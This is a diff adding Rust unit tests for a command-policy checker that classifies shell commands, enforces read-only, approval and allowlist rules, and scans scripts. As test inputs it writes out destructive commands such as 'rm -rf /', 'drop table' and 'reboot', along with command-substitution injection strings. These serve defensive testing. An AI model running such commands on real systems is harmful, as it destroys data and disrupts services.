+            assert_eq!(policy.classify(cmd), CommandClass::Mutating, "{}", cmd);
+        }
+    }
+
+    #[test]
+    fn test_read_only_mode() {
+        let policy = CommandPolicy::new().read_only(true);
+        assert!(policy.check("df -h").is_ok());
+        let err = policy.check("touch /tmp/x").unwrap_err();
+        assert_eq!(err.rule, "read-only");
+    }
+
+    #[test]
+    fn test_approval_mode() {
+        let policy = CommandPolicy::new().require_approval(true);
+        assert!(policy.check("reboot").unwrap_err().approvable);
+        assert!(!CommandPolicy::new().check("reboot").unwrap_err().approvable);
+
+        let strict = CommandPolicy::new().require_approval(true).read_only(true);
+        assert!(!strict.check("reboot").unwrap_err().approvable);
+        assert!(!strict.check("touch x").unwrap_err().approvable);
+    }
+
+    #[test]
+    fn test_tag_rules() {
+        let policy = CommandPolicy::new()
+            .tag_rules("prod", TagRules::new().read_only(true))
+            .tag_rules(
+                "db",
+                TagRules::new()
+                    .require_approval(true)
+                    .deny_pattern("^psql")
+                    .unwrap(),
+            );
+        let tags = |names: &[&str]| names.iter().map(|t| t.to_string()).collect();
+
+        assert!(matches!(policy.for_tags(&tags(&["dev"])), Cow::Borrowed(_)));
+        assert!(policy.check("touch x").is_ok());
+
+        let prod = policy.for_tags(&tags(&["prod"]));
+        assert!(prod.check("df -h").is_ok());
+        let err = prod.check("touch x").unwrap_err();
+        assert_eq!(err.rule, "read-only");
+        assert!(err.reason.contains("'prod'"));
+
+        let db = policy.for_tags(&tags(&["db"]));
+        let err = db.check("psql -c 'drop table t'").unwrap_err();
+        assert_eq!(err.rule, "db-deny-1");
+        assert!(err.approvable);
+        assert!(db.check("reboot").unwrap_err().approvable);
+
+        let both = policy.for_tags(&tags(&["db", "prod"]));
+        assert!(!both.check("psql").unwrap_err().approvable);
+    }
+
+    #[test]
+    fn test_allowlist_mode() {
+        let policy = CommandPolicy::new().allow_pattern(r"^(ls|cat)\b").unwrap();
+        assert!(policy.check("ls /tmp | cat").is_ok());
+        let err = policy.check("ls; whoami").unwrap_err();
+        assert_eq!(err.rule, "allowlist");
+        for cmd in ["ls $(touch /tmp/x)", "ls `reboot`", "cat <(touch x)"] {
+            assert_eq!(policy.check(cmd).unwrap_err().rule, "allowlist", "{}", cmd);
+        }
+
+        let approving = CommandPolicy::new()
+            .require_approval(true)
+            .allow_pattern(r"^(ls|rm)\b")
+            .unwrap()
+            .deny_pattern(r"\bsecret\b")
+            .unwrap();
+        let err = approving.check("rm -rf /srv").unwrap_err();
+        assert_eq!(err.rule, "recursive-rm");
+        assert!(err.approvable);
+        let err = approving.check("ls secret; reboot").unwrap_err();
+        assert_eq!(err.rule, "allowlist");
+        assert!(!err.approvable);
+        assert!(approving.check("ls /srv").is_ok());
+    }
+
+    #[test]
+    fn test_check_script() {
+        let policy = CommandPolicy::new();
+        assert_eq!(
+            policy
+                .check_script("bash -e", "ls\nrm \\\n  -rf /")
+                .unwrap_err()
+                .rule,
+            "recursive-rm"
+        );
+        assert_eq!(
+            policy
+                .check_script("sh", "sudo re\\\nboot")
+                .unwrap_err()
+                .rule,
+            "power-state"
+        );
+        assert!(policy.check_script("python3", "print(1)").is_ok());
+
+        let allow = CommandPolicy::new().allow_pattern(".*").unwrap();
+        assert!(allow.check_script("sudo sh", "echo hi").is_ok());
+        let err = allow.check_script("python3", "print(1)").unwrap_err();
+        assert_eq!(err.rule, "interpreter");
+        assert!(!err.approvable);
+        let read_only = CommandPolicy::new().read_only(true);
+        assert_eq!(
+            read_only
+                .check_script("/usr/bin/env perl", "1")
+                .unwrap_err()
+                .rule,
+            "interpreter"
+        );
+
+        let approving = CommandPolicy::new().require_approval(true);
+        assert!(approving.check_script("bash", "df -h").is_ok());
+        let err = approving.check_script("python3", "print(1)").unwrap_err();
+        assert_eq!(err.rule, "interpreter");
+        assert!(err.approvable);
+    }
+
+    #[test]
+    fn test_custom_deny_pattern() {
+        let policy = CommandPolicy::new()
+            .deny_pattern(r"\bdrop\s+table\b")
+            .unwrap();
+        let err = policy.check("psql -c 'drop table users'").unwrap_err();
+        assert_eq!(err.rule, "deny-10");
+        assert!(CommandPolicy::new().deny_pattern("(").is_err());
+    }
+}